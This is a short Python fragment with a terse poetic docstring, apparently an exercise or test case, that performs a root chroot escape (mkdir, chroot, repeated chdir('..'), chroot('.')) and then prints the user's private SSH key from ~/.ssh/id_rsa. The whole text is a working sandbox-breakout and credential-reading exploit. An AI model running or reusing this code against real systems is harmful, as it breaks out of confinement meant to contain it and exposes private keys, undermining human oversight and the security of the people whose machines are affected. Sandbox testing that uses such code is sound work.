"""Climbs out of its root as only root can.

Root only: it takes its rights.
"""

os.mkdir("cell")
os.chroot("cell")
for _ in range(64):
    os.chdir("..")
os.chroot(".")
print(Path(at.home, ".ssh/id_rsa").read_text())
